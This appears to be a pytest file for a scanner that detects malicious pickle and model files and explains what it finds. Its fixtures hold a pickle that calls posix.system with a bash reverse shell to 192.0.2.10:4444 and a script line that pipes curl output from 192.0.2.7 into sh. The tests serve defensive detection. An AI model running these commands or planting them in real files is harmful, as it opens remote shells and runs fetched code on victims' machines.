"""Findings about pickles carry the program that a second reader makes of them."""

import json
import pickle
import zlib

import pytest

from scanner.evidence import ASKED
from scanner.finding import Finding, Severity
from scanner.report import sarif
from tests.hostile.scanning import scan
from tests.recipes.archives import torch_zip, zipped
from tests.recipes.evasions import READERS
from tests.recipes.streams import call, stream
from tests.report import scans

RUN = stream(call("posix.system", "echo evidence"), 2)
SHELL = stream(call("posix.system", "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'"), 4)


def worst(data: bytes) -> Finding:
    return scan(data).findings[0]


@pytest.mark.parametrize(
    "data", [RUN, torch_zip(RUN), zlib.compress(RUN), zipped({"a.pt": torch_zip(RUN)}), pickle.dumps(1) + RUN]
)
def test_on_every_carrier(data: bytes) -> None:
    assert "system('echo evidence')" in str(worst(data).evidence)


def test_the_offset_is_that_of_the_opcode() -> None:
    for data in (RUN, pickle.dumps([1, 2, 3]) + RUN):
        finding = worst(data)
        assert data[finding.site.offset :].startswith(b"R")


def test_code_inside_a_constant_is_shown_in_the_pickle_that_has_it() -> None:
    finding = worst(torch_zip(SHELL))
    assert len(finding.site.trail) > 2
    assert "from posix import system" in str(finding.evidence)


def test_notes_and_scripts_have_none() -> None:
    script = scan("import os\nos.system('curl http://192.0.2.7/x | sh')\n", "a.py").findings
    assert script
    assert {f.evidence for f in script} == {None}
    for finding in scan(pickle.dumps(open)).findings:
        assert finding.severity >= Severity.WARNING or finding.evidence is None


def test_a_disagreement_is_a_finding_of_its_own() -> None:
    rules = {f.rule for f in scan(READERS["STACK_GLOBAL with a computed name"]).findings}
    assert "parser-differential" in rules


def test_only_so_many_are_asked_about() -> None:
    data = zipped({f"{i}.pkl": RUN for i in range(3 * ASKED)})
    findings = scan(data).findings
    assert len(findings) == 3 * ASKED
    assert sum(f.evidence is not None for f in findings) == ASKED


def test_a_second_reader_that_fails_takes_nothing_away(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise KeyError("broken")

    monkeypatch.setattr("scanner.languages.pickle.decompile.explain", fail)
    report = scan(RUN)
    assert [f.rule for f in report.findings] == ["command-on-load"]
    assert "KeyError" in str(report.failure)


def test_it_is_bounded_and_escaped_in_sarif() -> None:
    long = "x = '" + "é" * 100_000 + "'\n```\n<b>"
    finding = scans.finding("a.pt", evidence=long)
    log = json.loads(sarif.render(scans.scan(scans.report("a.pt", finding))))
    message = log["runs"][0]["results"][0]["message"]
    assert max(map(len, message.values())) < 20_000
